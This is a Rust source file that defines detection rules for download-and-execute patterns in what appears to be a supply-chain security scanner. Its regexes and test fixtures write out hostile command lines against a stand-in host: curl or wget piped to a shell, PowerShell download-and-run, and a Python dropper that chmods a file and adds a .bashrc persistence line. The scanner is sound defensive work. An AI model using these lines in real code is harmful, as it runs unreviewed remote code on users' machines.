//! Download and execute: fetching code or binaries and running them.

use crate::rule::{Family, Langs, Rule, Target, derived, fires, pattern, quiet};
use chainwarden_core::{Confidence, Severity};

const F: Family = Family::DownloadExec;
const REFS: &[&str] = &["https://attack.mitre.org/techniques/T1105/"];

pub const FETCH_EXEC: Rule = pattern(
    "heuristic/download-exec-fetch-exec",
    F,
    Severity::Critical,
    Confidence::High,
    "Executes code fetched from the network in one expression",
    "exec(urlopen(url).read()) runs whatever the server sends today; no package needs it.",
    Langs::PY_JS,
    Target::Both,
    r"(?:(?:^|[^.\w])(?:exec|eval)\s*\([^\n]{0,80}?(?:urlopen|requests\.get|urllib\.request\.urlopen|httpx\.get)\s*\(|(?:^|[^.\w])eval\s*\([^\n]{0,40}?(?:await\s+)?fetch\s*\()",
    &[
        fires("a.py", "exec(urllib.request.urlopen(u).read())"),
        fires("a.py", "exec(requests.get(u).text)"),
        quiet("a.py", "r = requests.get(u)\nprint(r.text)"),
    ],
)
.refs(REFS);

pub const PIPE_SHELL: Rule = pattern(
    "heuristic/download-exec-pipe-shell",
    F,
    Severity::High,
    Confidence::Medium,
    "A command that downloads and runs a script (curl|sh, iwr|iex, powershell -enc, certutil, mshta)",
    "Piping a download into a shell runs unreviewed remote code on the installing machine.",
    Langs::ALL,
    Target::Both,
    r"(?i)(?:\b(?:curl|wget)\b[^\n|;]{0,200}\|\s*(?:sudo\s+)?(?:ba|z|da)?sh\b|\b(?:iwr|invoke-webrequest|irm|invoke-restmethod|downloadstring)\b[^\n]{0,200}\|\s*(?:iex|invoke-expression)\b|\biex\s*\(\s*(?:new-object\s+net\.webclient|iwr|irm)|\bpowershell(?:\.exe)?\b[^\n]{0,60}\s-(?:e|ec|enc|encodedcommand)\s+[A-Za-z0-9+/=]{16,}|\b(?:iwr|invoke-webrequest|wget|curl|start-bitstransfer)\b[^\n]{0,300}\s-(?:outfile|destination)\b[^\n]{0,300}\b(?:start-process|saps|start|invoke-item|ii)\b|\bcertutil(?:\.exe)?\s+-urlcache\b|\bbitsadmin(?:\.exe)?\s+/transfer\b|\bmshta(?:\.exe)?\s+https?:|/dev/tcp/\d)",
    &[
        fires("a.py", "os.system('curl -fsSL https://x.example/i.sh | bash')"),
        fires("a.js", "exec(\"powershell -NoProfile -enc SQBFAFgAIAAoAE4AZQB3AC0A\")"),
        fires("install.sh", "wget -qO- http://x.example/p | sh\n"),
        fires(
            "a.py",
            "Invoke-WebRequest -Uri http://x.example/a.exe -OutFile $env:TEMP\\a.exe; Start-Process $env:TEMP\\a.exe",
        ),
        quiet("a.py", "cmd = 'Invoke-WebRequest -Uri https://x.example/f.zip -OutFile f.zip'"),
        quiet("a.py", "# curl https://x | sh\ncmd = ['curl', '-o', 'f', url]"),
    ],
)
.refs(REFS);

pub const FETCH_RUN: Rule = derived(
    "heuristic/download-exec-fetch-run",
    F,
    Severity::High,
    Confidence::Medium,
    "Downloads a file, makes it executable, and runs it (process, file write or start-up file) in the same file",
    "Fetch + write + chmod + run is the dropper flow.",
    &[
        fires(
            "a.py",
            "import urllib.request, os, subprocess\nurllib.request.urlretrieve('http://x.example/a', '/tmp/a')\nos.chmod('/tmp/a', 0o755)\nsubprocess.Popen(['/tmp/a'])\n",
        ),
        quiet(
            "a.py",
            "import requests, subprocess\nr = requests.get(u)\nsubprocess.run(['git', 'status'])\n",
        ),
        fires(
            "a.py",
            "r = urllib2.urlopen(U)\nd = open('.drv', 'wb')\nd.write(r.read())\nos.chmod('.drv', st.st_mode | stat.S_IEXEC)\nopen('.bashrc', 'a').write('~/.drv &')\n",
        ),
    ],
)
.refs(REFS);

pub const FETCH_EVAL: Rule = derived(
    "heuristic/download-exec-fetch-eval",
    F,
    Severity::Medium,
    Confidence::Low,
    "Fetches over the network and evaluates dynamic code in the same file",
    "A network read and an exec/eval/new Function in one file may run remote code.",
    &[
        fires(
            "a.js",
            "https.get('https://x.example/p', r => { let d=''; r.on('data', c => d += c); r.on('end', () => eval(d)); });\n",
        ),
        quiet("a.js", "fetch(u).then(r => r.json())\n"),
    ],
)
.refs(REFS);

pub const RULES: &[Rule] = &[FETCH_EXEC, PIPE_SHELL, FETCH_RUN, FETCH_EVAL];
